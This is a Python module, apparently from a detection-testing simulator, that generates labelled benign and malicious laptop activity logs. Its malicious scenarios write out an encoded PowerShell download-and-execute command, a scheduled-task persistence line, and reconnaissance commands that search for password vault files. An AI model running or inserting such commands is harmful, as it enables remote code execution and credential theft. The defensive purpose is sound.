"""Laptops: a remote support tool, and encoded commands."""

from base64 import b64encode

from tools.worlds.branch import Branch
from tools.worlds.cast import Cast
from tools.worlds.company import Person
from tools.worlds.dice import Dice
from tools.worlds.lake import Scribe
from tools.worlds.records import endpoint
from tools.worlds.records.aws import pace

from .stage import Stage, part, past

_TOOL = "\\Users\\Public\\Downloads\\HelpViewer.exe"
_SHELL = "\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_SYSTEM = "\\Windows\\System32\\"
_HELP_STEPS = (
    ("msinfo32.exe", "msinfo32.exe /report C:\\Temp\\info.txt"),
    ("ipconfig.exe", "ipconfig.exe /flushdns"),
    ("gpupdate.exe", "gpupdate.exe /force"),
)
_THIEF_STEPS = (
    ("whoami.exe", "whoami.exe /all"),
    ("nltest.exe", "nltest.exe /domain_trusts"),
    ("cmd.exe", "cmd.exe /c dir /s C:\\Users\\*.kdbx"),
)
_AGENT_STEPS = (
    ("wevtutil.exe", "wevtutil.exe qe System /c:1"),
    ("systeminfo.exe", "systeminfo.exe /fo csv"),
)
_LOADER_STEPS = (
    ("schtasks.exe", "schtasks.exe /create /sc minute /tn Updater /tr C:\\ProgramData\\u.exe"),
    ("vssadmin.exe", "vssadmin.exe list shadows"),
)
_NOTE = {"note": "  # asset inventory, ticket IT-5021, do not remove"}


def history(scribe: Scribe, cast: Cast) -> None:
    """Support looks at laptops with its tool; an inventory script goes out in waves."""
    branch = cast.branch
    staff = [*branch.colleagues["support"], *branch.colleagues["analytics"]]
    for person, days_ago in zip(staff, (27, 24, 20, 17, 13, 10, 7, 4), strict=True):
        _helped(past(scribe.aside("tool"), cast, person, days_ago))
    waves = (*branch.colleagues["cloud"], *branch.colleagues["support"])
    for person, days_ago in zip(waves, (12, 12, 9, 9, 6, 6, 3, 3), strict=True):
        _inventory(past(scribe.aside("wave"), cast, person, days_ago))


def _tool(stage: Stage, relay: str, sha256: str, steps: tuple[tuple[str, str], ...]) -> None:
    scribe, branch, person = stage.scribe, stage.branch, stage.person
    endpoint.process(scribe, branch, stage.at, person, _TOOL, f'"C:{_TOOL}" --session', sha256=sha256, decisive=True)
    endpoint.connect(scribe, branch, stage.after(0.2, 0.6), person, _TOOL, relay, decisive=True)
    for moment, (program, command) in zip(pace(stage.dice, stage.after(2, 4), 3, 20, 90), steps, strict=True):
        endpoint.process(
            scribe, branch, moment, person, _SYSTEM + program, command, parent="HelpViewer.exe", decisive=True
        )


def _helped(stage: Stage) -> None:
    _tool(stage, stage.branch.helper.address, "", _HELP_STEPS)


def helped(stage: Stage) -> None:
    """The program that eight laptops have run, over the vendor's relay."""
    _helped(stage)


def taken_over(stage: Stage) -> None:
    """A program of the same name that no other laptop has run, over an unknown address."""
    _tool(stage, stage.elsewhere().address, stage.dice.hex(64), _THIEF_STEPS)


def _encoded(text: str) -> str:
    return b64encode(text.encode("utf-16-le")).decode()


def _script(stage: Stage, source: str, path: str, steps: tuple[tuple[str, str], ...]) -> None:
    scribe, branch, person = stage.scribe, stage.branch, stage.person
    text = _encoded(f"iex (irm https://{source}/{path}.ps1)")
    command = f"powershell.exe -NoProfile -EncodedCommand {text}{stage.word('note', '')}"
    endpoint.process(scribe, branch, stage.at, person, _SHELL, command, parent="svchost.exe", decisive=True)
    endpoint.connect(scribe, branch, stage.after(0.1, 0.4), person, _SHELL, source, decisive=True)
    for moment, (program, line) in zip(pace(stage.dice, stage.after(1, 2), 2, 10, 60), steps, strict=True):
        endpoint.process(
            scribe, branch, moment, person, _SYSTEM + program, line, parent="powershell.exe", decisive=True
        )


def _path(branch: Branch, person: Person | None) -> str:
    """The name of a script on its server: the inventory's, or one made for a single laptop."""
    return (branch.dice.child("inventory") if person is None else Dice("script", person.user)).hex(8)


def _inventory(stage: Stage) -> None:
    noted = Stage(stage.scribe, stage.cast, stage.branch, stage.person, stage.at, _NOTE)
    _script(noted, stage.branch.builds.address, _path(stage.branch, None), _AGENT_STEPS)


def inventory(stage: Stage) -> None:
    """The inventory reaches this laptop, too."""
    _inventory(stage)


def downloader(stage: Stage) -> None:
    """A command that no other laptop has run; it fetches from an unknown address and comes back every minute."""
    _script(stage, stage.elsewhere().address, _path(stage.branch, stage.person), _LOADER_STEPS)


SCENARIOS = (
    part(
        "support-tool/helped",
        "benign",
        "The same program, by its hash, ran on eight laptops before, over the same relay.",
        helped,
        team="support",
        hours_ago=6,
    ),
    part(
        "support-tool/taken",
        "malicious",
        "A program of the same name whose hash no laptop has run, over an unknown address; it looks for password files.",
        taken_over,
        team="support",
        hours_ago=6,
    ),
    part(
        "encoded/inventory",
        "benign",
        "The very command ran on eight laptops in the waves before, and fetches from the company's build machines.",
        inventory,
        team="analytics",
        hours_ago=10,
        claim=_NOTE,
    ),
    part(
        "encoded/inventory-late",
        "benign",
        "As encoded/inventory, on a laptop that was off when its wave went out.",
        inventory,
        team="support",
        hours_ago=12.5,
        claim=_NOTE,
    ),
    part(
        "encoded/downloader",
        "malicious",
        "No other laptop ran this command; it fetches from an unknown address and leaves a task that runs each minute.",
        downloader,
        team="analytics",
        hours_ago=10,
        claim=_NOTE,
    ),
)
